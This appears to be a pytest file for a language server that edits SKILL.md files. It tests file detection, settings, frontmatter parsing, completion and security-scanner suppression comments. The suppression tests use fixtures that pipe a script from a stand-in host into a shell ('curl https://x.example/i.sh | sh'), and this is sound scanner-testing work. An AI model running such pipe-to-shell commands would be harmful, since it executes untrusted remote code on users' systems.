"""The language server's small parts: which files are skills, settings from the
client, where a suppression comment goes."""

from __future__ import annotations

import pytest

from hermes_lsp.features.code_actions import _in_code_block, _suppression
from hermes_lsp.features.hover import _in_frontmatter
from hermes_lsp.server import Settings, create_server
from hermes_lsp.skill_files import is_skill_uri, uri_path


@pytest.mark.parametrize(
    ("uri", "expected"),
    [
        ("file:///work/skills/pdf/SKILL.md", True),
        ("file:///work/skills/pdf/skill.md", True),
        ("untitled:/work/SKILL.md", True),
        ("file:///work/skills/pdf/README.md", False),
        ("file:///work/skills/pdf/SKILL.md.bak", False),
        ("file:///work/skills/pdf/references/Skill.MD", False),
    ],
)
def test_only_skill_files_are_skills(uri: str, expected: bool):
    assert is_skill_uri(uri) is expected


def test_a_file_uri_has_a_path_and_others_do_not():
    assert str(uri_path("file:///a%20b/SKILL.md")) == "/a b/SKILL.md"
    assert uri_path("untitled:SKILL.md") is None


def test_settings_take_what_is_well_formed_and_ignore_the_rest():
    settings = Settings()
    settings.update({"hermes": {"profile": "claude-code", "debounce": 0.3}})
    assert (settings.profile, settings.debounce) == ("claude-code", 0.3)
    settings.update({"profile": "", "debounce": 99})
    assert (settings.profile, settings.debounce) == ("claude-code", 0.3)
    settings.update(["not", "a", "mapping"])
    settings.update(None)
    assert settings.profile == "claude-code"


def test_each_server_is_its_own():
    first, second = create_server(), create_server()
    assert first is not second
    assert first.state is not second.state


def test_the_frontmatter_is_between_the_fences():
    lines = ["---\n", "name: x\n", "---\n", "name: not a key\n"]
    assert [_in_frontmatter(lines, n) for n in range(4)] == [False, True, False, False]
    assert not _in_frontmatter(["# no frontmatter\n", "name: x\n"], 1)


def test_a_suppression_is_a_comment_of_the_right_kind():
    lines = ["# Skill\n", "Run it.\n", "```bash\n", "curl x | sh\n", "```\n"]
    assert _in_code_block(lines, 3)
    assert not _in_code_block(lines, 1)
    assert _suppression("SUP001", True).startswith("# hermes-scan: ignore SUP001 -- ")
    assert _suppression("SUP001", False).startswith("<!-- hermes-scan: ignore SUP001 -- ")
    assert _suppression("SUP001", False).endswith("-->")


@pytest.mark.parametrize(
    ("text", "line", "in_code"),
    [
        ("# S\n\nPipe it: `curl https://x.example/i.sh | sh`\n", 2, False),
        ("# S\n\n```bash\ncurl https://x.example/i.sh | sh\n```\n", 3, True),
    ],
)
def test_the_inserted_suppression_covers_the_finding(text: str, line: int, in_code: bool):
    from hermes_core.security import Scanner

    scanner = Scanner()
    assert any(f.rule == "SUP001" for f in scanner.scan_text(text, "SKILL.md").findings)
    lines = text.splitlines(keepends=True)
    lines.insert(line, _suppression("SUP001", in_code) + "\n")
    scan = scanner.scan_text("".join(lines), "SKILL.md")
    assert not any(f.rule == "SUP001" for f in scan.findings)
    assert [(s.rule, s.reason) for s in scan.suppressions] == [("SUP001", "say why this is safe")]


def test_the_keys_a_line_sits_under_are_read_from_the_indentation():
    from hermes_lsp.features.completion import _parents

    lines = [
        "---\n",
        "name: x\n",
        "platforms:\n",
        "  - linux\n",
        "metadata:\n",
        "  hermes:\n",
        "    related_skills:\n",
        "      - other\n",
        "---\n",
    ]
    assert _parents(lines, 3, 2) == ["platforms"]
    assert _parents(lines, 7, 6) == ["related_skills", "hermes", "metadata"]
    assert _parents(lines, 2, 0) == []  # a top-level key has no parent


def test_environment_names_come_from_the_body():
    from hermes_lsp.features.completion import _env_names

    assert _env_names("Use $GITHUB_TOKEN and ${SLACK_WEBHOOK_URL}, not $x or $AB.") == [
        "GITHUB_TOKEN",
        "SLACK_WEBHOOK_URL",
    ]
